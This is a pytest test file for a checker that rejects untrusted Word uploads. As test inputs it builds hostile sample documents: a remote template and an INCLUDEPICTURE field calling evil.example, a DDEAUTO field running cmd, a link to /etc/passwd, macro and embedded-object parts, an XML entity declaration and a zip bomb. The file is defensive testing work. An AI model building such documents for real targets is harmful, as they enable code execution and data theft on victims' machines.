"""Word documents that strangers send: what could run or fetch something is refused."""

import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from planner.errors import InputError
from planner.reports.document import Paper
from planner.sources.untrusted import word_documents
from planner.sources.untrusted.word_documents import checked_document

TYPES = "[Content_Types].xml"


def saved(document) -> bytes:
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def plain() -> bytes:
    return saved(Document())


def changed(change=None, **added: bytes) -> bytes:
    """Return an ordinary document whose parts are changed, and others added."""
    with zipfile.ZipFile(BytesIO(plain())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    if change is not None:
        change(parts)
    parts.update(added)
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def related(kind: str, target: str) -> bytes:
    document = Document()
    document.part.relate_to(target, kind, is_external=True)
    return saved(document)


def with_field(*texts: str, simple: bool = False) -> bytes:
    document = Document()
    paragraph = document.add_paragraph()._p
    if simple:
        field = OxmlElement("w:fldSimple")
        field.set(qn("w:instr"), texts[0])
        paragraph.append(field)
        return saved(document)
    for kind, text in (("begin", ""), *(("", text) for text in texts), ("end", "")):
        run = OxmlElement("w:r")
        part = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            part.set(qn("w:fldCharType"), kind)
        part.text = text or None
        run.append(part)
        paragraph.append(run)
    return saved(document)


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    def change(parts):
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)

    return changed(change)


MAIN = b"wordprocessingml.document.main+xml"
BODY = "word/document.xml"
ATTACHED = RELATIONSHIP_TYPE.HYPERLINK.replace("hyperlink", "attachedTemplate")
REFUSED = {
    "text": (lambda: b"no document", "no_document"),
    "another archive": (lambda: changed(lambda parts: parts.clear(), a=b"a"), "no_document"),
    "a template": (
        lambda: replaced(TYPES, MAIN, b"wordprocessingml.template.main+xml"),
        "no_document",
    ),
    "macros": (
        lambda: replaced(TYPES, MAIN, b"ms-word.document.macroEnabled.main+xml"),
        "document_runs",
    ),
    "a macro's part": (lambda: changed(**{"word/vbaProject.bin": b"x"}), "document_runs"),
    "an embedded program": (
        lambda: changed(**{"word/embeddings/oleObject1.bin": b"x"}),
        "document_runs",
    ),
    "a template from elsewhere": (
        lambda: related(ATTACHED, "http://evil.example/t.dotm"),
        "document_outside",
    ),
    "a picture from a share": (
        lambda: related(RELATIONSHIP_TYPE.IMAGE, "file://host/share/a.png"),
        "document_outside",
    ),
    "a link to a file": (
        lambda: related(RELATIONSHIP_TYPE.HYPERLINK, "file:///etc/passwd"),
        "document_outside",
    ),
    "a field that runs": (lambda: with_field(" DD", "EAUTO c:\\cmd "), "document_field"),
    "a field that fetches": (
        lambda: with_field("INCLUDEPICTURE http://evil.example", simple=True),
        "document_field",
    ),
    "a document type": (
        lambda: replaced(BODY, b"<w:document", b'<!DOCTYPE w [<!ENTITY a "b">]><w:document'),
        "no_document",
    ),
    "signs of two bytes": (
        lambda: changed(lambda parts: parts.update({BODY: "<a/>".encode("utf-16")})),
        "no_document",
    ),
    "another encoding": (
        lambda: changed(
            lambda parts: parts.update({BODY: b'<?xml version="1.0" encoding="utf-7"?><a/>'})
        ),
        "no_document",
    ),
    "broken text": (
        lambda: changed(lambda parts: parts.update({BODY: b"<w:document>"})),
        "no_document",
    ),
}


@pytest.mark.long
@pytest.mark.parametrize("which", REFUSED)
def test_what_could_run_or_fetch_something_is_refused(which):
    made, code = REFUSED[which]
    with pytest.raises(InputError) as error:
        checked_document(made(), "own.docx")
    assert error.value.code == f"uploads.{code}"
    assert "own.docx" in str(error.value)
    with pytest.raises(InputError) as error:
        Paper("en", made())
    assert error.value.code == f"uploads.{code}"


def test_a_bomb_is_refused_before_it_is_unpacked_whole(monkeypatch):
    monkeypatch.setattr(word_documents, "MOST_UNPACKED", 1_000_000)
    bomb = changed(**{"word/media/image1.png": bytes(5_000_000)})
    assert len(bomb) < 100_000
    with pytest.raises(InputError) as error:
        checked_document(bomb, "own.docx")
    assert error.value.code == "uploads.large_document"
    monkeypatch.undo()
    monkeypatch.setattr(word_documents, "MOST_TAGS", 1_000)
    with pytest.raises(InputError) as error:
        checked_document(plain(), "own.docx")
    assert error.value.code == "uploads.large_document"


def test_two_parts_of_one_name_are_refused():
    buffer = BytesIO(plain())
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(BODY, b"<a/>")
    with pytest.raises(InputError):
        checked_document(buffer.getvalue(), "own.docx")


@pytest.mark.long
def test_deep_or_empty_documents_are_refused_in_words():
    deep = b"<a>" * 5000 + b"</a>" * 5000
    for body in (deep, b"<a/>"):
        with pytest.raises(InputError) as error:
            Paper("en", changed(lambda parts, body=body: parts.update({BODY: body})))
        assert error.value.code == "reports.bad_template"


@pytest.mark.long
def test_links_and_harmless_fields_stay():
    link = related(RELATIONSHIP_TYPE.HYPERLINK, "https://example.org/")
    for content in (plain(), link, with_field(" PAGE "), with_field("DATE", simple=True)):
        checked = checked_document(content, "own.docx")
        with zipfile.ZipFile(BytesIO(content)) as before, zipfile.ZipFile(checked) as after:
            assert before.namelist() == after.namelist()
            assert all(before.read(name) == after.read(name) for name in before.namelist())
